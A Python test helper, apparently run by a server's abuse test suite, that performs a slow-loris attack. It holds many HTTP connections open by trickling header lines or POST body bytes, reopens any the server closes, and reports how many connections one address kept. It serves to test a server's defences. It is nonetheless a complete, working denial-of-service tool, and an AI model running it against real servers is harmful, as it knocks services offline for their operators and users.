#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""slowloris.py: a slow-loris against an HTTP server, for test_abuse.sh.

Keeps CONNS connections open from SRC to HOST:PORT; each sends a request line and then one more
header line every INTERVAL seconds, never ending its headers. With MODE "body" (an optional
seventh argument; "headers" by default) each sends whole headers of a POST that announces a
body of 4000 bytes, then one byte of it every INTERVAL seconds. With MODE "keepalive" each sends
a whole GET /healthz every INTERVAL seconds on its connection and reads the answers: a
well-behaved client without a credential that never leaves. In the other modes a connection the
server closes is opened again a second later (an attacker keeps the pressure on, without running
out of ports). Runs SECONDS seconds, then prints
one JSON object:
  held_max      most connections open at once that had been open for at least 0.5 s: what
                the server let one address hold
  held_closed   connections held (0.5 s or more) that the server then closed
  life_max      the longest life of any connection, closed by the server or still open at the
                end, in seconds
  connects      connections made in all
"""
import json
import selectors
import socket
import sys
import time

HELD_S = 0.5
FIRST_POST = (b"POST /client/v4/accounts/slow/pcaps HTTP/1.1\r\nHost: slow\r\n"
              b"Content-Type: application/json\r\nContent-Length: 4000\r\n\r\n")


def main():
    src, host, port, conns, interval, seconds = sys.argv[1:7]
    mode = sys.argv[7] if len(sys.argv) > 7 else "headers"
    body, keepalive = mode == "body", mode == "keepalive"
    port, conns = int(port), int(conns)
    interval, seconds = float(interval), float(seconds)
    sel = selectors.DefaultSelector()
    socks = {}  # socket -> [opened, last line sent]
    stats = {"held_max": 0, "held_closed": 0, "life_max": 0.0, "connects": 0}
    reopen = []  # when each closed connection is opened again

    def open_one():
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.bind((src, 0))
        try:
            s.connect((host, port))
        except BlockingIOError:
            pass
        now = time.monotonic()
        socks[s] = [now, 0.0]
        sel.register(s, selectors.EVENT_READ)
        stats["connects"] += 1

    def close_one(s, now):
        opened = socks.pop(s)[0]
        sel.unregister(s)
        s.close()
        if not keepalive:
            reopen.append(now + 1.0)
        life = now - opened
        if life >= HELD_S:
            stats["held_closed"] += 1
            stats["life_max"] = max(stats["life_max"], life)

    for _ in range(conns):
        open_one()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for key, _ in sel.select(timeout=0.1):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                close_one(s, time.monotonic())
        now = time.monotonic()
        for s, st in list(socks.items()):
            if now - st[1] >= interval:
                if keepalive:
                    line = b"GET /healthz HTTP/1.1\r\nHost: slow\r\n\r\n"
                elif body:
                    line = FIRST_POST if st[1] == 0.0 else b"x"
                else:
                    line = b"GET /healthz HTTP/1.1\r\n" if st[1] == 0.0 else b"X-Slow: 1\r\n"
                try:
                    s.send(line)
                    st[1] = now
                except BlockingIOError:
                    pass  # still connecting
                except OSError:
                    close_one(s, now)
        held = sum(1 for st in socks.values() if now - st[0] >= HELD_S)
        stats["held_max"] = max(stats["held_max"], held)
        while reopen and reopen[0] <= now:
            reopen.pop(0)
            open_one()
    now = time.monotonic()
    for st in socks.values():
        stats["life_max"] = max(stats["life_max"], now - st[0])
    stats["life_max"] = round(stats["life_max"], 1)
    print(json.dumps(stats))


if __name__ == "__main__":
    main()
